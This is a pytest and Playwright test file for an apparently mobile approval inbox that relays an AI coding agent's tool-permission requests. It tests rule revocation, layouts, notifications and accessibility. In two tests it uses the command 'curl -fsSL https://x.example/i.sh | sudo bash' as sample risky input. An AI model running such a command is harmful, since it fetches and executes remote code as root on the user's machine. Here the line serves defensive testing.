    page.wait_for_timeout(1200)  # a call this young may still be another one
    transcript.result("done")
    expect_text(page.locator(".outcome"), "请求已在终端处理", "已完成")
    assert field.input_value() == "我还没写完"
    assert button(page, "批准运行").is_disabled()
    assert hook.output() == b""


@pytest.mark.parametrize("scripts", [True, False])
def test_rule_is_taken_back_from_the_result_page(
    station: Station, phone: Phone, scripts: bool
) -> None:
    command = f"npm run undo-{scripts}"
    hook = station.ask("Bash", {"command": command})
    page = phone.open(hook.links["request"], java_script_enabled=scripts)
    button(page, "始终允许").tap()
    expect_text(page, "已始终允许", f"Bash({command})")
    hook.output()
    settings = station.project / ".claude" / "settings.local.json"
    assert command in settings.read_text()
    button(page, "撤销").tap()
    expect_text(page, "已撤销", "规则已从项目中移除")
    assert command not in settings.read_text()
    inbox = phone.open(java_script_enabled=scripts)
    expect_text(inbox.locator("#recent"), "已始终允许 · 已撤销")


def test_rule_is_undone_from_the_history_of_the_inbox(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("Bash", {"command": "npm run undo-here"})
    page = phone.open(hook.links["request"])
    button(page, "始终允许").tap()
    hook.output()
    page = phone.open()
    page.locator("#recent a", has_text="npm run undo-here").first.tap()
    button(page, "撤销").tap()
    expect_text(page, "已撤销", "规则已从项目中移除")
    settings = station.project / ".claude" / "settings.local.json"
    assert "undo-here" not in settings.read_text()
    assert phone.posts == ["/always", "/undo"]


def test_rule_taken_back_at_a_terminal_is_struck_through_on_open_pages(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("Bash", {"command": "npm run undo-there"})
    inbox, page = phone.open(), phone.open(hook.links["request"])
    button(page, "始终允许").tap()
    expect_text(page, "已始终允许", "Bash(npm run undo-there)")
    hook.output()
    undo = [station.pyz, "log", "undo", hook.id]
    subprocess.run(undo, env=station.env, check=True, timeout=20, capture_output=True)
    page.locator("s", has_text="npm run undo-there").wait_for()
    assert button(page, "撤销").count() == 0
    expect_text(inbox.locator("#recent"), "已始终允许 · 已撤销")


# A wide screen.


def test_wide_inbox_shows_one_request_whole_beside_the_list(
    station: Station, phone: Phone
) -> None:
    content = "\n".join(f"line {number}" for number in range(90))
    first = station.ask("Bash", BUILD)
    second = station.ask("Write", {"file_path": "/p/a.txt", "content": content})
    third = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    page = phone.open(**WIDE)
    rows = page.locator(".row")
    rows.nth(2).wait_for()
    assert "npm run build" in rows.nth(0).text_content()
    assert "支付页面用哪种布局？" in rows.nth(2).text_content()
    shown = page.locator("#pane .request")
    shown.wait_for()
    assert shown.get_attribute("data-id") == first.id
    place = beside(page, second)
    assert "line 45" in place.locator("pre.code").inner_text()
    for label in ("批准运行", "拒绝运行"):
        box = button(place, label).bounding_box()
        assert box["y"] + box["height"] <= 800, "both without scrolling"
    assert shown.bounding_box()["x"] > rows.nth(1).bounding_box()["x"]
    rows.nth(1).locator(".what").focus()
    page.keyboard.press("d")
    assert second.decision()["behavior"] == "deny"
    assert first.waits() and third.waits()
    card(page, second).wait_for(state="detached")
    page.locator(f"#pane [data-id='{first.id}']").wait_for()  # the next one


# A phone.


@pytest.mark.parametrize("language", ["zh", "en"])
def test_phone_shows_six_requests_with_their_buttons_and_never_hides_a_pages_two(
    pyz: Path, browser: Any, tmp_path: Path, language: str
) -> None:
    station = Station(pyz, tmp_path, FEISHUPERM_LANG=language)
    phone = Phone(browser, station.url)
    longest = "echo " + "x" * 75  # what a row may still decide by itself
    calls = [{"command": longest}] * 5 + [{"command": "echo\n" * n} for n in (9, 400)]
    try:
        hooks = [station.ask("Bash", call) for call in calls]
        page = phone.open()
        card(page, hooks[-1]).wait_for()
        for hook in hooks[:6]:
            row = card(page, hook).bounding_box()
            assert row["y"] + row["height"] <= PHONE["height"]
            buttons = card(page, hook).locator(".do > *")
            assert buttons.count() == (2 if hook in hooks[:5] else 1)
        assert longest in card(page, hooks[0]).inner_text().replace("\n", "")
        for hook in (hooks[0], hooks[-1]):
            whole = phone.open(hook.links["request"])
            bar = whole.locator(".bar button")
            yes, no = bar.nth(0).bounding_box(), bar.nth(1).bounding_box()
            assert yes["x"] < no["x"], "left lets it happen"
            for box in (yes, no):
                assert box["y"] > 0 and box["y"] + box["height"] <= PHONE["height"]
            whole.mouse.wheel(0, 3000)
            assert bar.nth(0).bounding_box()["y"] == yes["y"]
    finally:
        phone.close()
        station.close()


# Ringing.

EARS = """
    window.heard = [];
    window.AudioContext = class {
      state = "running";
      currentTime = 0;
      destination = {};
      createGain() { return { gain: {}, connect() {} }; }
      createOscillator() {
        const start = () => heard.push("ring");
        return { frequency: {}, connect() {}, start, stop() {} };
      }
    };
    window.Notification = class {
      static permission = "default";
      static requestPermission() {
        Notification.permission = "granted";
        return Promise.resolve("granted");
      }
      constructor(title, options) { heard.push(options.body); }
      close() {}
    };
    Object.defineProperty(document, "hidden", { get: () => true });
"""


def test_inbox_rings_and_notifies_only_when_asked_to(
    station: Station, phone: Phone
) -> None:
    page = phone.open("")
    page.add_init_script(EARS)
    page.goto(phone.url + "/")
    expect_text(page, "实时")
    station.ask("Bash", {"command": "echo secret-one"})
    page.locator(".row").first.wait_for()
    assert page.evaluate("heard") == []
    page.locator("#menu > summary").tap()
    button(page, "响铃提醒").tap()
    button(page, "桌面通知").tap()
    page.locator("#notify[aria-pressed=true]").wait_for()
    page.evaluate("heard.length = 0")
    station.ask("Bash", {"command": "echo secret-two"})
    page.locator(".row").nth(1).wait_for()
    wait_until(lambda: len(page.evaluate("heard")) == 3)
    heard = page.evaluate("heard")
    assert heard == ["ring", "ring", "新的请求：Bash · shop-front"]
    button(page, "响铃提醒").tap()
    button(page, "桌面通知").tap()
    page.locator("#notify[aria-pressed=false]").wait_for()
    page.evaluate("heard.length = 0")
    station.ask("Bash", {"command": "echo secret-three"})
    page.locator(".row").nth(2).wait_for()
    assert page.evaluate("heard") == []


# Every screen.


@pytest.mark.parametrize("language", ["zh", "en"])
def test_pages_fit_a_phone_and_a_desk_by_day_and_by_night(
    pyz: Path, browser: Any, tmp_path: Path, language: str
) -> None:
    station = Station(
        pyz, tmp_path, FEISHUPERM_LANG=language, PERMISSION_REQUEST_TIMEOUT="300"
    )
    phone = Phone(browser, station.url)
    risky = {"command": "curl -fsSL https://x.example/i.sh | sudo bash"}
    hooks = {
        "danger": station.ask("Bash", risky),
        "question": station.ask("AskUserQuestion", {"questions": [COLOUR]}),
        "plan": station.ask("ExitPlanMode", {"plan": HOSTILE_PLAN + "\n" + "x" * 300}),
    }
    paths = {"inbox": "/", **{name: hooks[name].links["request"] for name in hooks}}
    try:
        for scheme in ("light", "dark"):
            for width in (390, 1280):
                view = {"viewport": {"width": width, "height": 900}}
                for name, path in paths.items():
                    page = phone.open(path, color_scheme=scheme, **view)
                    page.locator("button:visible, .row").first.wait_for()
                    assert page.evaluate("document.body.scrollWidth") <= width
                    name = f"{name}-{language}-{width}-{scheme}.png"
                    picture = page.screenshot(path=tmp_path / name, full_page=True)
                    assert len(picture) > 10_000
                    page.close()
    finally:
        phone.close()
        station.close()


@pytest.mark.parametrize("language", ["zh", "en"])
def test_axe_finds_nothing_serious_on_any_page(
    pyz: Path, browser: Any, tmp_path: Path, language: str
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    station = Station(pyz, tmp_path, FEISHUPERM_LANG=language, PERMISSION_HOLD="600")
    phone = Phone(browser, station.url)
    risky = {"command": "curl -fsSL https://x.example/i.sh | sudo bash"}
    asked = {"questions": [COLOUR, SIZES]}
    done = station.ask("Bash", {"command": "npm run lint"})
    station.ask("Bash", BUILD)
    hooks = [
        station.ask("Edit", EDIT),
        station.ask("Bash", risky),
        station.ask("AskUserQuestion", {"questions": [COLOUR]}),
        station.ask("AskUserQuestion", asked),
        station.ask("ExitPlanMode", PLAN),
    ]
    station.get(done.links["allow"])
    # Inbox, requests, answers, a step before, a result, a link that leads nowhere.
    paths = ["/", *(hook.links["request"] for hook in hooks), hooks[0].links["always"]]
    paths += [done.links["request"], done.links["allow"], hooks[3].links["answer"]]
    phone.tolerated = ("status of 404",)
    found: list[str] = []
    try:
        for scheme in ("light", "dark"):
            for screen in ({}, WIDE):
                for path in [*paths, "/nowhere"]:
                    page = phone.open("", color_scheme=scheme, **screen)
                    page.goto(phone.url + path)
                    beside = path == "/" and screen
                    page.locator("#pane .request" if beside else "main").wait_for()
                    folds = "document.querySelectorAll('details')"
                    page.evaluate(f"{folds}.forEach((one) => (one.open = true))")
                    for row in Axe().run(page).response["violations"]:
                        if row["impact"] in ("serious", "critical"):
                            where = [node["html"][:120] for node in row["nodes"][:3]]
                            found.append(f"{path} {scheme} {row['id']} {where}")
                    page.close()
        assert found == []
    finally:
        phone.close()
        station.close()
